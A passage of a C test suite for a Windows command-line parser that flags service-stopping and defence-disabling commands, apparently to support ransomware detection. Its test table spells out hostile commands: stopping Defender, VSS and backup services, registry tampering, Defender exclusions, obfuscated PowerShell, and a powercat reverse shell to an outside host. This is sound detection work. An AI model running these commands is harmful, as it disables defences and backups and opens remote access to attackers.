	    "wmi_stop_service", "powershell", "stop", "vss", "", D, NULL),
	ONE("powershell \"$w = gwmi win32_service -filter \\\"name='vss'\\\"; $w.StopService()\"",
	    "wmi_stop_service", "powershell", "stop", "vss", "", D, NULL),
	ONE("powershell \"(gwmi win32_service -filter \\\"name='vss'\\\").ChangeStartMode('Disabled')\"",
	    "wmi_disable", "powershell", "disable", "vss", "", D,
	    "powershell -command: (get-wmiobject win32_service vss).changestartmode(disabled)"),
	ONE("powershell \"Invoke-CimMethod -InputObject (Get-CimInstance Win32_Service -Filter "
	    "\\\"Name='vss'\\\") -MethodName ChangeStartMode -Arguments @{StartMode='Disabled'}\"",
	    "wmi_disable", "powershell", "disable", "vss", "", D, NULL),
	ONE("powershell \"Get-WmiObject Win32_Service -Filter \\\"Name='vss'\\\" | Invoke-WmiMethod "
	    "-Name ChangeStartMode -ArgumentList Disabled\"", "wmi_disable", "powershell", "disable",
	    "vss", "", D, NULL),
	ONE("powershell \"(Get-WmiObject Win32_Service -Filter \\\"Name='evil'\\\").Delete()\"",
	    "wmi_delete", "powershell", "delete", "evil", "", D, NULL),
	NONE("powershell \"(gwmi win32_service -filter \\\"name='vss'\\\").ChangeStartMode('Manual')\""),
	NONE("powershell \"(gwmi win32_service -filter \\\"name='vss'\\\").StartService()\""),
	NONE("powershell \"Invoke-WmiMethod -Path win32_process -Name create -ArgumentList "
	     "notepad.exe\""),

	/* ---- -EncodedCommand ---- */
	ONE("powershell -enc " B64_STOP_WINDEFEND, "ps_stop_service", "powershell", "stop",
	    "WinDefend", "", D, "powershell -encodedcommand: stop-service WinDefend"),
	ONE("powershell -e " B64_STOP_WINDEFEND, "ps_stop_service", "powershell", "stop", "WinDefend",
	    "", D, NULL),
	ONE("powershell -ec " B64_STOP_WINDEFEND, "ps_stop_service", "powershell", "stop", "WinDefend",
	    "", D, NULL),
	ONE("powershell.exe -NoP -NonI -W Hidden -EncodedCommand " B64_STOP_WINDEFEND,
	    "ps_stop_service", "powershell", "stop", "WinDefend", "", D, NULL),
	ONE("powershell -EnC " B64_VEEAM_PIPE, "ps_stop_service", "powershell", "stop", "Veeam*", "", D,
	    "powershell -encodedcommand: get-service Veeam* | stop-service"),
	ONE("powershell -enc " B64_SET_DISABLED, "ps_set_service_disabled", "powershell", "disable",
	    "WinDefend", "", D, NULL),
	ONE("powershell -enc " B64_NOPAD, "ps_stop_service", "powershell", "stop", "vss", "", D, NULL),
	ONE("powershell -enc " B64_NET_STOP_VSS, "net_stop", "net", "stop", "vss", "", L,
	    "powershell -encodedcommand: net stop vss"),
	ONE("powershell -enc " B64_EMOJI, "ps_service_stop_method", "powershell", "stop",
	    "\xf0\x9f\x98\x80svc", "", D, NULL),
	ONE("powershell -enc " B64_LONE, "ps_stop_service", "powershell", "stop", "a\xef\xbf\xbdx", "",
	    D, NULL),
	ONE("powershell -enc " B64_NESTED, "ps_stop_service", "powershell", "stop", "WinDefend", "", L,
	    "powershell -encodedcommand: powershell -encodedcommand: stop-service WinDefend"),
	ONE("cmd /c powershell -enc " B64_STOP_WINDEFEND, "ps_stop_service", "powershell", "stop",
	    "WinDefend", "", L, "cmd /c: powershell -encodedcommand: stop-service WinDefend"),
	NONE("powershell -enc !!!!"),
	NONE("powershell -enc"),
	NONE("powershell -enc A"),

	/* ---- wmic ---- */
	ONE("wmic service where name='vss' call stopservice", "wmic_stopservice", "wmic", "stop", "vss",
	    "", D, "wmic service where name='vss' call stopservice"),
	ONE("wmic service where \"name='vss'\" call StopService", "wmic_stopservice", "wmic", "stop",
	    "vss", "", D, NULL),
	ONE("WMIC.exe service where (name=\"vss\") call stopservice", "wmic_stopservice", "wmic", "stop",
	    "vss", "", D, NULL),
	ONE("wmic /node:fs01 service where name='vss' call stopservice", "wmic_stopservice", "wmic",
	    "stop", "vss", "fs01", D, "wmic /node:fs01 service where name='vss' call stopservice"),
	ONE("wmic /node:\"10.1.1.1\" /user:a /password:b service vss call stopservice",
	    "wmic_stopservice", "wmic", "stop", "vss", "10.1.1.1", D, NULL),
	ONE("wmic service vss call stopservice", "wmic_stopservice", "wmic", "stop", "vss", "", D, NULL),
	ONE("wmic path win32_service where name='vss' call stopservice", "wmic_stopservice", "wmic",
	    "stop", "vss", "", D, NULL),
	ONE("wmic service where \"displayname like 'Veeam%'\" call stopservice", "wmic_stopservice",
	    "wmic", "stop", "Veeam%", "", D, NULL),
	ONE("wmic service where name='vss' call ChangeStartMode Disabled", "wmic_disable", "wmic",
	    "disable", "vss", "", D, "wmic service where name='vss' call changestartmode disabled"),
	ONE("wmic service where name='vss' call ChangeStartMode StartMode=\"Disabled\"", "wmic_disable",
	    "wmic", "disable", "vss", "", D, NULL),
	ONE("wmic service where name='evil' delete", "wmic_delete", "wmic", "delete", "evil", "", D,
	    NULL),
	ONE("wmic process call create \"net stop vss\"", "net_stop", "net", "stop", "vss", "", L,
	    "wmic process call create: net stop vss"),
	ONE("wmic /node:fs01 process call create \"cmd /c sc stop vss\"", "sc_stop", "sc", "stop", "vss",
	    "fs01", L, "wmic /node:fs01 process call create: cmd /c: sc stop vss"),
	NONE("\"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe\" service where name='vss' call ChangeStartMode "
	     "Manual"),
	NONE("wmic service where name='vss' call startservice"),
	NONE("wmic service list brief"),
	NONE("wmic service where name='vss' get state"),
	NONE("wmic nteventlog where filename=\"security\" cl"),

	/* ---- taskkill ---- */
	ONE("taskkill /F /IM sqlservr.exe", "taskkill_service", "taskkill", "kill", "sqlservr.exe", "",
	    D, "taskkill /f /im sqlservr.exe"),
	ONE("taskkill /f /im SQLSERVR.EXE", "taskkill_service", "taskkill", "kill", "SQLSERVR.EXE", "",
	    D, NULL),
	ONE("taskkill -f -im sqlservr.exe", "taskkill_service", "taskkill", "kill", "sqlservr.exe", "",
	    D, NULL),
	ONE("taskkill \xe2\x80\x93" "f \xe2\x80\x93" "im sqlservr.exe", "taskkill_service",
	    "taskkill", "kill", "sqlservr.exe", "", D, NULL),
	ONE("taskkill /IM sqlservr.exe", "taskkill_service", "taskkill", "kill", "sqlservr.exe", "", D,
	    "taskkill /im sqlservr.exe"),
	{ "taskkill /IM sqlservr.exe /IM notepad.exe /IM mysqld.exe /F", NULL,
	  { { "taskkill_service", "taskkill", "kill", "sqlservr.exe", "", D, NULL },
	    { "taskkill_service", "taskkill", "kill", "mysqld.exe", "", D, NULL }, END } },
	ONE("taskkill /F /IM veeam.backup.service.exe", "taskkill_service", "taskkill", "kill",
	    "veeam.backup.service.exe", "", D, NULL),
	ONE("taskkill /F /IM MSExchangeTransport.exe", "taskkill_service", "taskkill", "kill",
	    "MSExchangeTransport.exe", "", D, NULL),
	ONE("taskkill /F /IM store.exe", "taskkill_service", "taskkill", "kill", "store.exe", "", D,
	    NULL),
	ONE("taskkill /F /IM MsMpEng.exe", "taskkill_service", "taskkill", "kill", "MsMpEng.exe", "", D,
	    NULL),
	ONE("taskkill /F /IM vmtoolsd.exe", "taskkill_service", "taskkill", "kill", "vmtoolsd.exe", "",
	    D, NULL),
	ONE("taskkill /F /IM beserver.exe", "taskkill_service", "taskkill", "kill", "beserver.exe", "", D,
	    NULL),
	ONE("taskkill /F /IM oracle.exe", "taskkill_service", "taskkill", "kill", "oracle.exe", "", D,
	    NULL),
	ONE("taskkill /F /IM sql*", "taskkill_service", "taskkill", "kill", "sql*", "", D, NULL),
	ONE("taskkill /S fs01 /U dom\\admin /P pw /F /IM sqlservr.exe", "taskkill_service", "taskkill",
	    "kill", "sqlservr.exe", "fs01", D, "taskkill /s fs01 /f /im sqlservr.exe"),
	ONE("taskkill /F /FI \"SERVICES eq vss\"", "taskkill_service", "taskkill", "kill", "vss", "", D,
	    "taskkill /f /fi \"services eq vss\""),
	ONE("taskkill /F /FI \"IMAGENAME eq MsMpEng.exe\"", "taskkill_service", "taskkill", "kill",
	    "MsMpEng.exe", "", D, NULL),
	NONE("taskkill /IM msedge.exe /F"),
	NONE("taskkill /F /IM notepad.exe"),
	NONE("taskkill /F /PID 1234"),
	NONE("taskkill /F /IM *"),
	NONE("taskkill /F /FI \"USERNAME eq bob\" /IM *"),
	NONE("taskkill /F /FI \"SERVICES ne vss\""),
	NONE("tasklist /FI \"SERVICES eq vss\""),

	/* ---- reg ---- */
	ONE("reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend /v Start /t REG_DWORD /d 4 /f",
	    "reg_start_disabled", "reg", "disable", "WinDefend", "", D,
	    "reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend /v start /t reg_dword /d 4"),
	ONE("reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Services\\Sense\" /t REG_DWORD /v Start /d 0x4 "
	    "/f", "reg_start_disabled", "reg", "disable", "Sense", "", D, NULL),
	ONE("reg.exe add HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\WdFilter /v Start /d "
	    "0x00000004 /t REG_DWORD /f", "reg_start_disabled", "reg", "disable", "WdFilter", "", D,
	    NULL),
	ONE("reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\vss /v Start /d 4 /f",
	    "reg_start_disabled", "reg", "disable", "vss", "", D, NULL),
	ONE("REG ADD hklm\\system\\currentcontrolset\\services\\vss\\ -v start -t reg_dword -d 4 -f",
	    "reg_start_disabled", "reg", "disable", "vss", "", D, NULL),
	ONE("reg add \\\\fs01\\HKLM\\SYSTEM\\CurrentControlSet\\Services\\vss /v Start /t REG_DWORD /d 4",
	    "reg_start_disabled", "reg", "disable", "vss", "fs01", D, NULL),
	ONE("reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\evilsvc /f", "reg_delete_service",
	    "reg", "delete", "evilsvc", "", D,
	    "reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\evilsvc"),
	ONE("cmd /c reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\vss /v Start /t REG_DWORD /d 4 /f",
	    "reg_start_disabled", "reg", "disable", "vss", "", L, NULL),
	NONE("reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\vss /v Start /t REG_DWORD /d 2 /f"),
	NONE("reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\vss /v Start /t REG_SZ /d 4 /f"),
	NONE("reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\vss\\Parameters /v Start /t REG_DWORD "
	     "/d 4 /f"),
	NONE("reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\vss /v DelayedAutostart /t REG_DWORD "
	     "/d 4 /f"),
	NONE("reg add HKLM\\SOFTWARE\\CurrentControlSet\\Services\\vss /v Start /t REG_DWORD /d 4 /f"),
	NONE("reg query HKLM\\SYSTEM\\CurrentControlSet\\Services\\vss /v Start"),
	NONE("reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\vss /v Start /f"),
	NONE("reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\vss\\Parameters /f"),
	NONE("reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware "
	     "/t REG_DWORD /d 1 /f"),

	/* ---- psexec ---- */
	ONE("psexec \\\\fs01 -s net stop vss", "net_stop", "net", "stop", "vss", "fs01", L,
	    "psexec \\\\fs01: net stop vss"),
	ONE("PsExec64.exe -accepteula \\\\fs02 -u dom\\admin -p pw cmd /c \"sc stop vss\"", "sc_stop",
	    "sc", "stop", "vss", "fs02", L, "psexec64 \\\\fs02: cmd /c: sc stop vss"),
	NONE("psexec \\\\fs01 -s cmd"),

	/* ---- look-alikes named in T1489.md and the corpus README ---- */
	NONE("netsh trace stop"),
	NONE("netsh  trace stop"),
	NONE("pktmon stop"),
	NONE("pktmon  stop"),
	NONE("notepad \"C:\\net stop.txt\""),
	NONE("notepad.exe C:\\Users\\a\\net stop vss.txt"),
	NONE("findstr /i \"net stop\" C:\\logs\\a.txt"),
	NONE("\"C:\\Program Files\\x\\svc.exe\" --stop-service vss"),
	NONE("schtasks /create /tn x /tr \"net stop vss\" /sc once /st 00:00"),

	/* ---- command lines from the test corpus (4688 / Sysmon 1) ---- */
	ONE("sc  stop mpssvc", "sc_stop", "sc", "stop", "mpssvc", "", D, "sc stop mpssvc"),
	ONE("sc  config sense start= disabled", "sc_config_disabled", "sc", "disable", "sense", "", D,
	    "sc config sense start= disabled"),
	ONE("sc  config mpssvc start= disabled", "sc_config_disabled", "sc", "disable", "mpssvc", "", D,
	    NULL),
	ONE("sc  config WinDefend start= disabled", "sc_config_disabled", "sc", "disable", "WinDefend",
	    "", D, NULL),
	NONE("C:\\Windows\\system32\\sc.exe start wuauserv"),
	NONE("sc  failure W32Time command= \"\\\"c:\\Windows\\system32\\pentestlab.exe\\\"\""),
	NONE("sc  sdset xboxgip \"D:(A;;CCLCSWRPWPDTLOCRRC;;;SY)"),
	NONE("sc.exe  create hijackservice binpath= \"cmd.exe /k tscon 2 /dest:rdp-tcp#5\""),
	NONE("sc.exe  start hijackservice"),
	NONE("net  use m: \\\\fs03vuln\\c$ /USER:offsec\\hack1"),
	NONE("net  user guest /active:yes"),
	NONE("C:\\Windows\\system32\\net1  accounts /domain"),
	NONE("\"c:\\windows\\system32\\cmd.exe\" /c net user"),
	NONE("C:\\WINDOWS\\system32\\cmd.exe /c tasklist | findstr \"CommAmqpListener\""),
	NONE("cmd  /c \"tasklist | findstr powershell\""),
	NONE("C:\\WINDOWS\\system32\\cmd.exe  /S /D /c\" echo\""),
	NONE("C:\\WINDOWS\\system32\\cmd.exe  /S /D /c\" set /p=false\""),
	NONE("C:\\WINDOWS\\system32\\cmd.exe /d /s /c \"where bun\""),
	NONE("C:\\Windows\\system32\\cmd.exe /c ipconfig"),
	NONE("cmd.exe /k tscon 2 /dest:rdp-tcp#5"),
	NONE("cmd.exe /c echo genusn > \\\\.\\pipe\\genusn"),
	NONE("cmd  /c \"mklink C:\\Windows\\System32\\osk.exe C:\\Windows\\System32\\cmd.exe\""),
	NONE("C:\\Windows\\system32\\cmd.exe /c rmdir /s/q C:\\ProgramData\\Microsoft\\Windows\\WER\\"
	     "ReportQueue\\a_b_c_d_e > nul 2>&1"),
	NONE("C:\\Windows\\system32\\cmd.exe /c mkdir,C:\\ProgramData\\Microsoft\\Windows\\WER\\"
	     "ReportQueue\\a_b_c_d_e"),
	NONE("C:\\Windows\\system32\\cmd.exe /c ipconfig 1> \\\\127.0.0.1\\ADMIN$\\__1556656511.61 2>&1"),
	NONE("cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1556656369.7 2>&1"),
	NONE("C:\\Windows\\system32\\cmd.exe /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > "
	     "C:\\Windows\\TEMP\\execute.bat & C:\\Windows\\system32\\cmd.exe /Q /c "
	     "C:\\Windows\\TEMP\\execute.bat & del C:\\Windows\\TEMP\\execute.bat"),
	NONE("C:\\Windows\\system32\\cmd.exe /c reg query \"HKLM\\SOFTWARE\\Wow6432Node\\McAfee\\"
	     "SystemCore\\VSCore\\On Access Scanner\\McShield\\Configuration\\Default\" /v "
	     "NumExcludeItems"),
	NONE("\"cmd.exe\" /c REG ADD \"HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\" "
	     "/v C:\\TMP /t REG_DWORD /d 0 /f"),
	NONE("\"C:\\TMP\\p.exe\"  -accepteula -d -s cmd.exe /c REG ADD \"HKLM\\SOFTWARE\\Microsoft\\"
	     "Windows Defender\\Exclusions\\Paths\" /v C:\\TMP /t REG_DWORD /d 0 /f"),
	NONE("reg  add \"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\" /v UpdateSvc /t "
	     "REG_SZ /d \"C:\\TMP\\p.exe -s \\\\10.34.2.3 'net user' > C:\\TMP\\o2.txt\" /f"),
	NONE("C:\\Windows\\system32\\reg.exe add HKEY_CURRENT_USER\\Software\\Classes\\Folder\\shell\\"
	     "open\\command /v \"DelegateExecute\" /t REG_SZ /d \"\" /f"),
	NONE("\"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe\" process where \"commandline like "
	     "\"%%%%node server/index.js%%%%\"\" call terminate"),
	NONE("wmic  /node:\"127.0.0.1\" product where \"name like 'Tightvnc%%%%'\" call uninstall"),
	NONE("\"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe\" /user:DOMAIN\\Administrator /password:P@ssw0rd1 "
	     "/node:17.12.0.1 process call create notepad.exe"),
	NONE("\"C:\\Windows\\System32\\wbem\\WMIC.exe\" /namespace:\"\\\\root\\subscription\" PATH "
	     "__EventFilter WHERE Name=\"BotFilter82\" DELETE"),
	NONE("netsh  firewall set opmode disable"),
	NONE("netsh  advfirewall set privateprofile state off"),
	NONE("\"C:\\Windows\\system32\\auditpol.exe\"  /set /category:* /success:disable "
	     "/failure:disable"),
	NONE("devcon.exe  disable \"ROOT\\VMWVMCIHOSTDEV\""),
	NONE("\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\NGenTask.exe\" /RuntimeWide "
	     "/Critical /StopEvent:520"),
	NONE("\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\"   --headless=new "
	     "--disable-gpu https://mockbin.org/bin/31b1332f"),
	NONE("c:\\windows\\system32\\cmd.exe /c powershell -command \"Get-Service \"seg1\" | select "
	     "-Expand DisplayName |out-file -append tmp_payload.txt\""),
	NONE("C:\\WINDOWS\\system32\\cmd.exe /d /s /c \"powershell -c \"[Environment]::"
	     "GetEnvironmentVariable('PATH', 'User') + ';' + [Environment]::GetEnvironmentVariable("
	     "'PATH', 'Machine')\"\""),
	NONE("powershell  -Exec Bypass \". \\\"C:\\TMP\\nc.ps1\\\";powercat -c www.googleaccountsservic"
	     "es.com -p 80 -t 2 -e cmd\""),
	NONE("\"C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -c \"Set-ItemProperty "
	     "-Path \"HKLM:Software\\Policies\\Microsoft\\Windows\\DeviceGuard\" -Name "
	     "\"EnableVirtualizationBasedSecurity\" -Value 0\""),
	NONE("C:\\Windows\\system32\\cmd.exe /b /c start /b /min powershell.exe -nop -w hidden -c "
	     "if([IntPtr]::Size -eq 4){$b='powershell.exe'}else{$b=$env:windir+'\\syswow64\\"
	     "WindowsPowerShell\\v1.0\\powershell.exe'};$s=New-Object "
	     "System.Diagnostics.ProcessStartInfo"),
	NONE("cmd.exe /Q /c powershell.exe -exec bypass -noni -nop -w 1 -C \" & ( $pSHomE[4]+$pshome[30]"
	     "+'x')(\"$( seT-VariaBLe 'OFs'  '') \"+[sTRING]((91 ,78,101 ,116, 46, 83, 101 ,114, 118, "
	     "105,99 , 101,80 , 111,105)|%{ ( [ChAr][INT] $_)})+\"$(SET-iTem 'vaRIabLE:oFs' ' ' )\")\""),
	NONE("powershell  -exec bypass -e " B64_CORPUS_WMI),
};

/* ---- helpers ------------------------------------------------------------------------ */

static int failures;

static const char *const rules[] = {
	"net_stop", "net_pause", "sc_stop", "sc_pause", "sc_delete", "sc_config_disabled",
	"ps_stop_service", "ps_suspend_service", "ps_set_service_disabled", "ps_set_service_stopped",
	"ps_remove_service", "ps_service_stop_method", "ps_service_pause_method",
	"ps_reg_start_disabled", "wmi_stop_service", "wmi_disable", "wmi_delete", "wmic_stopservice",
	"wmic_disable", "wmic_delete", "taskkill_service", "reg_start_disabled", "reg_delete_service",
};

static void show(const char *line, const char *image, const struct svc_actions *a)
{
	size_t i;

	fprintf(stderr, "  input: [%s]%s%s\n", line ? line : "(null)", image ? " image: " : "",
		image ? image : "");
	for (i = 0; i < a->n; i++)
		fprintf(stderr, "  got: rule=%s tool=%s verb=%s service=[%s] host=[%s] role=%s why=[%s]\n",
			a->v[i].rule, a->v[i].tool, a->v[i].verb, a->v[i].service, a->v[i].remote_host,
			a->v[i].role == SVC_LAUNCHER ? "launcher" : "direct", a->v[i].why);
	if (!a->n)
		fprintf(stderr, "  got: no action\n");
}

/* Checks that every action is well formed: known rule, owned strings set. */
static int well_formed(const struct svc_actions *a)
{
	size_t i, k;

	for (i = 0; i < a->n; i++) {
		const struct svc_action *x = &a->v[i];
		int known = 0;
		for (k = 0; k < sizeof(rules) / sizeof(rules[0]); k++)
			known |= x->rule && strcmp(x->rule, rules[k]) == 0;
		if (!known || !x->tool || !x->verb || !x->service || !x->remote_host || !x->why ||
		    (x->role != SVC_DIRECT && x->role != SVC_LAUNCHER))
			return 0;
	}
	return 1;
}

static void run_case(const struct tcase *t)
{
	struct svc_actions a;
	size_t n = 0, i;
	int rc, bad = 0;

	while (n < 4 && t->w[n].rule)
		n++;
	svc_actions_init(&a);
	rc = svc_parse(t->line, t->image, &a);
	if (rc != 0 || a.n != n || !well_formed(&a)) {
		bad = 1;
	} else {
		for (i = 0; i < n; i++) {
			const struct want *w = &t->w[i];
			const struct svc_action *x = &a.v[i];
			if (strcmp(w->rule, x->rule) || strcmp(w->tool, x->tool) ||
			    strcmp(w->verb, x->verb) || strcmp(w->service, x->service) ||
			    strcmp(w->host, x->remote_host) || w->role != x->role ||
			    (w->why && strcmp(w->why, x->why)))
				bad = 1;
		}
	}
	if (bad) {
		failures++;
		fprintf(stderr, "FAIL (rc=%d, want %zu action(s)", rc, n);
		for (i = 0; i < n; i++)
			fprintf(stderr, "%s%s %s [%s] host=[%s] %s%s%s%s", i ? "; " : ": ", t->w[i].rule,
				t->w[i].verb, t->w[i].service, t->w[i].host,
				t->w[i].role == SVC_LAUNCHER ? "launcher" : "direct",
				t->w[i].why ? " why=[" : "", t->w[i].why ? t->w[i].why : "",
				t->w[i].why ? "]" : "");
		fprintf(stderr, ")\n");
		show(t->line, t->image, &a);
	}
	svc_actions_release(&a);
}

static void check(int ok, const char *what, const char *input)
{
	if (!ok) {
		failures++;
		fprintf(stderr, "FAIL %s: [%s]\n", what, input ? input : "(null)");
	}
}

/* ---- the textbook Sigma rule ---------------------------------------------------------- */

static void test_textbook(void)
{
	static const struct {
		const char *line;
		int want;
	} t[] = {
		{ "net stop vmtools", 1 },
		{ "net  stop vmtools", 0 },	/* what cmd.exe really records: missed */
		{ "NET STOP vmtools", 1 },
		{ "sc stop vss", 1 },
		{ "sc.exe stop vss", 0 },
		{ "net1 stop vss", 0 },
		{ "sc \\\\fs01 stop vss", 0 },
		{ "cmd /c net stop vss", 1 },
		{ "notepad \"C:\\net stop.txt\"", 1 },	/* a false hit of the substring rule */
		{ "misc stop", 1 },
		{ "net\tstop vss", 0 },
		{ "", 0 },
	};
	size_t i;

	for (i = 0; i < sizeof(t) / sizeof(t[0]); i++)
		check(svc_textbook_match(t[i].line) == t[i].want, "svc_textbook_match", t[i].line);
	check(svc_textbook_match(NULL) == 0, "svc_textbook_match", NULL);
}

/* ---- appending, release and reuse ----------------------------------------------------- */

static void test_lifecycle(void)
{
	struct svc_actions a;

	svc_actions_init(&a);
	check(svc_parse("net stop a", NULL, &a) == 0 && a.n == 1, "first parse", "net stop a");
	check(svc_parse("cmd /c \"sc stop b & sc stop c\"", NULL, &a) == 0 && a.n == 3,
	      "parse appends", "cmd /c \"sc stop b & sc stop c\"");
	check(a.n == 3 && strcmp(a.v[0].service, "a") == 0 && strcmp(a.v[2].service, "c") == 0,
	      "appended order", "");
	svc_actions_release(&a);
	check(a.n == 0 && a.v == NULL, "release empties", "");
	check(svc_parse("net stop d", NULL, &a) == 0 && a.n == 1 && strcmp(a.v[0].service, "d") == 0,
	      "reuse after release", "net stop d");
	svc_actions_release(&a);
	svc_actions_release(&a);
	svc_actions_init(&a);
	check(svc_parse(NULL, NULL, &a) == 0 && a.n == 0, "NULL line", NULL);
	check(svc_parse(NULL, "C:\\Windows\\System32\\net.exe", &a) == 0 && a.n == 0, "NULL line",
	      NULL);
	svc_actions_release(&a);
}

/* ---- limits ------------------------------------------------------------------------------ */

static void expect_count(const char *line, size_t want, const char *what)
{
	struct svc_actions a;

	svc_actions_init(&a);
	if (svc_parse(line, NULL, &a) != 0 || a.n != want || !well_formed(&a)) {
		failures++;
		fprintf(stderr, "FAIL %s: want %zu action(s), got %zu\n", what, want, a.n);
		if (strlen(line) < 400)
			show(line, NULL, &a);
	}
	svc_actions_release(&a);
}

static char *repeat(const char *head, const char *unit, size_t n, const char *tail)
{
	size_t hl = strlen(head), ul = strlen(unit), tl = strlen(tail), i;
	char *s = malloc(hl + ul * n + tl + 1), *p;

	if (!s) {
		fprintf(stderr, "out of memory\n");
		exit(1);
	}
	memcpy(s, head, hl);
	p = s + hl;
	for (i = 0; i < n; i++, p += ul)
		memcpy(p, unit, ul);
	memcpy(p, tail, tl + 1);
	return s;
}

static void test_limits(void)
{
	char *s;
	size_t n;

	/* wrappers: SVC_MAX_DEPTH of them are unwrapped, one more is not */
	s = repeat("", "cmd /c ", SVC_MAX_DEPTH, "net stop vss");
	expect_count(s, 1, "cmd /c nested SVC_MAX_DEPTH times");
	free(s);
	s = repeat("", "cmd /c ", SVC_MAX_DEPTH + 1, "net stop vss");
	expect_count(s, 0, "cmd /c nested past SVC_MAX_DEPTH");
	free(s);
	s = repeat("", "cmd /c ", 5000, "net stop vss");
	expect_count(s, 0, "cmd /c nested 5000 times");
	free(s);
	s = repeat("", "powershell -c ", 3000, "Stop-Service vss");
	expect_count(s, 0, "powershell -c nested 3000 times");
	free(s);

	/* many commands in one line, capped at SVC_MAX_ACTIONS */
	s = repeat("cmd /c ", "net stop a&", 100, "");
	expect_count(s, 100, "100 commands");
	free(s);
	n = SVC_MAX_INPUT / 8;
	s = repeat("cmd /c ", "sc stop a&", n, "");
	expect_count(s, SVC_MAX_ACTIONS, "actions capped");
	free(s);

	/* input past SVC_MAX_INPUT is not read */
	s = repeat("net stop vss", " ", SVC_MAX_INPUT, "x");
	expect_count(s, 1, "long line");
	free(s);
	s = repeat("", " ", SVC_MAX_INPUT, "net stop vss");
	expect_count(s, 0, "command past SVC_MAX_INPUT");
	free(s);

	/* deep brackets and long runs of special characters finish and find nothing */
	s = repeat("powershell -c ", "(", 100000, "Stop-Service vss");
	expect_count(s, 0, "100000 (");
	free(s);
	s = repeat("powershell -c ", "{", 100000, "");
	expect_count(s, 0, "100000 {");
	free(s);
	s = repeat("powershell -c ", "$(", 50000, "");
	expect_count(s, 0, "50000 $(");
	free(s);
	s = repeat("powershell -c ", "@(", 50000, "");
	expect_count(s, 0, "50000 @(");
	free(s);
	s = repeat("powershell -c ", "'a'+", 30000, "'b'");
	expect_count(s, 0, "30000 string concatenations");
	free(s);
	s = repeat("powershell -c \"$a='Stop-Service vss'", ";iex $a", 10000, "\"");
	expect_count(s, 10000 < SVC_MAX_ACTIONS ? 10000 : SVC_MAX_ACTIONS, "10000 iex");
	free(s);
	s = repeat("cmd /c a ", "(", 100000, "");
	expect_count(s, 0, "cmd 100000 (");
	free(s);
	s = repeat("cmd /c ", "^", 100000, "");
	expect_count(s, 0, "cmd 100000 ^");
	free(s);
	s = repeat("cmd /c ", "\"", 100001, "");
	expect_count(s, 0, "cmd 100001 quotes");
	free(s);
	s = repeat("powershell -c ", "[", 100000, "");
	expect_count(s, 0, "100000 [");
	free(s);
	s = repeat("powershell -c ", "\\\"", 50000, "");
	expect_count(s, 0, "50000 escaped quotes");
	free(s);
	s = repeat("powershell -enc ", "AAAA", 30000, "");
	expect_count(s, 0, "30000 NUL characters encoded");
	free(s);
	s = repeat("powershell -c Stop-Service ", "a,", 5000, "b");
	expect_count(s, 8, "a list of 5001 names");
	free(s);
	s = repeat("powershell -c Get-Service x", "|%{$_}", 10000, "|Stop-Service");
	expect_count(s, 1, "a pipeline of 20000 elements");
	free(s);
	s = repeat("wmic ", "/x ", 5000, "service where name='a' call stopservice");
	expect_count(s, 1, "many wmic switches");
	free(s);
}

/* ---- garbage -------------------------------------------------------------------------- */

static unsigned long long rng_state = 0x9E3779B97F4A7C15ull;

static unsigned rng(void)
{
	rng_state ^= rng_state << 13;
	rng_state ^= rng_state >> 7;
	rng_state ^= rng_state << 17;
	return (unsigned)(rng_state >> 11);
}

/* Mutates the table's inputs (bytes flipped, dropped, inserted, cut short, parts of
 * other inputs spliced in) and checks only that the parser returns 0 with well-formed
 * actions; under the sanitizers this also checks every memory access. */
static void test_garbage(void)
{
	static const char *const inserts[] = {
		"\"", "'", "^", "&", "|", "(", ")", "{", "}", "$(", "@(", "@{", "`", "\\", "\\\"",
		"\xe2\x80\x93", "\xe2\x80\x98", "\xe2\x80\x9c", "\xc2\xa0", "\n", "\r\n", " ", "cmd /c ",
		"powershell -c ", "-enc ", "[", "]", "::", ".", ",", "=", "--%", "@'\n", "'@", "#", "<#",
		"\xf0", "\xff", "%", "/c", "\\\\", "2>&1", ">", "$_", "|%{", "iex ",
	};
	size_t ncases = sizeof(cases) / sizeof(cases[0]), i, round;
	char buf[4096];

	for (round = 0; round < 60; round++) {
		for (i = 0; i < ncases; i++) {
			const char *src = cases[(i + round * 7) % ncases].line;
			size_t len = strlen(src), k, edits = 1 + rng() % 4;
			struct svc_actions a;
			int rc;
			if (len >= sizeof(buf) / 2)
				continue;
			memcpy(buf, src, len + 1);
			for (k = 0; k < edits; k++) {
				size_t pos = len ? rng() % (len + 1) : 0;
				switch (rng() % 5) {
				case 0:
					if (pos < len)
						buf[pos] = (char)(rng() % 255 + 1);
					break;
				case 1:
					if (pos < len) {
						memmove(buf + pos, buf + pos + 1, len - pos);
						len--;
					}
					break;
				case 2: {
					const char *ins = inserts[rng() % (sizeof(inserts) / sizeof(inserts[0]))];
					size_t il = strlen(ins);
					if (len + il < sizeof(buf) - 1) {
						memmove(buf + pos + il, buf + pos, len - pos + 1);
						memcpy(buf + pos, ins, il);
						len += il;
					}
					break;
				}
				case 3:
					buf[pos] = '\0';
					len = pos;
					break;
				default: {
